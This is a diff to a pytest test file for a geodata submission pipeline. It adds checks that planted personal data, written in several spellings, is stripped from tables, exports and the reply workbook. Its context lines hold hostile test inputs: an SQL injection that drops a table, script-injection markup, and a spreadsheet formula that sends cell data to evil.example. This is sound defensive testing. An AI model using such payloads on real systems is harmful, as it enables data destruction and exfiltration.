@@ -25,6 +25,15 @@ SQL = "x'); drop table core.initiatives; attach '/tmp/evil.duckdb'; --"
 MARKUP = "</td></script><script>alert(1)</script><img src=x onerror=alert(2)>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"ver")'
 PERSONAL = {"correo": "juana.quispe@example.org", "celular": "987654321", "dni": "41234567"}
+WRITTEN = {  # where a person may write it, in spellings that people use
+    "nombre": "Vivero de Juana, D.N.I. N° 41.234.567",
+    "institucion": "Comité de Huaytire, juana.quispe@example.org",
+    "financiador": "Contacto: Juana Quispe Mamani, 987.654.321",
+    "monto_soles": "1000",
+    "documento": "Recibo de RUC 10412345679, telf. (052) 234567",
+    "estado": "En ejecución, C.E. 001234567",
+}
+SPELLINGS = ["41.234.567", "Quispe", "987.654.321", "10412345679", "234567)", "(052) 234567", "001234567"]
 
 
 @pytest.fixture(scope="module")
@@ -49,6 +58,10 @@ def attacked(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator
             f"Responsable: Juana, {PERSONAL['correo']}, cel. +51 {PERSONAL['celular']}, DNI {PERSONAL['dni']}. {name}"
         )
         made.append(feature)
+    persons = json.loads(json.dumps(made[0]))
+    persons["geometry"]["coordinates"] = [[[x + 0.08, y] for x, y, *_ in first["geometry"]["coordinates"][0]]]
+    persons["properties"] |= {"codigo": "PERSONAS", **WRITTEN}
+    made.append(persons)
     bad = json.loads(json.dumps(made[1]))
     bad["properties"] |= {"codigo": "EVIL-9", "estado": MARKUP, "superficie_ha": FORMULA}
     told["features"] += [*made, bad]
@@ -105,7 +118,7 @@ def test_personal_data_of_a_submission_is_in_no_table_and_no_export(attacked: Pi
             "select schema_name, table_name, column_name from duckdb_columns() where not internal and data_type in ('VARCHAR', 'VARCHAR[]')"
         ).fetchall()
         for schema, table, column in columns:
-            for kind, value in PERSONAL.items():
+            for kind, value in [*PERSONAL.items(), *((spelling, spelling) for spelling in SPELLINGS)]:
                 found = con.execute(
                     f'select count(*) from {schema}."{table}" where contains(cast("{column}" as varchar), ?)', [value]
                 ).fetchone()
@@ -114,6 +127,13 @@ def test_personal_data_of_a_submission_is_in_no_table_and_no_export(attacked: Pi
         assert told is not None
         assert told[0].count("[dato personal retirado]") == 3
         assert "Responsable: Juana" in told[0]
+        counted = con.execute(
+            "select sum(rows_failed) from quality.rule_counts where reporting_institution = 'agroforestal_sac'"
+            " and rule_id = 'submissions.table.texts_hold_no_personal_data'"
+        ).fetchone()
+        assert counted == (5,), (
+            "three names with remarks, the row of persons, and the one that is refused for its status"
+        )
     for path in [
         *(attacked.data_dir / "exports").rglob("*"),
         *(attacked.data_dir / "quality").rglob("*"),
@@ -121,7 +141,16 @@ def test_personal_data_of_a_submission_is_in_no_table_and_no_export(attacked: Pi
     ]:
         if path.is_file() and path.suffix in {".csv", ".html", ".json", ".geojson", ".ndjson"}:
             text = path.read_text(errors="ignore")
-            assert not [v for v in PERSONAL.values() if v in text], path
+            assert not [v for v in [*PERSONAL.values(), *SPELLINGS] if v in text], path
+
+
+def test_the_answer_says_that_personal_data_were_taken_out(attacked: Pipeline) -> None:
+    answer = answer_path(attacked.data_dir / "inbox" / "agroforestal_sac" / "sistemas.geojson")
+    rows = list(openpyxl.load_workbook(answer)["Aceptadas"].values)
+    said = {row[rows[0].index("codigo")]: row[rows[0].index("por_mejorar")] or "" for row in rows[1:]}
+    told = {code for code, text in said.items() if "datos personales" in text}
+    assert {"EVIL-0", "EVIL-1", "EVIL-2"} <= told
+    assert not [code for code in told if not code.startswith(("EVIL", "PERSONAS"))]
 
 
 def test_a_link_in_the_inbox_is_not_followed(attacked: Pipeline) -> None:
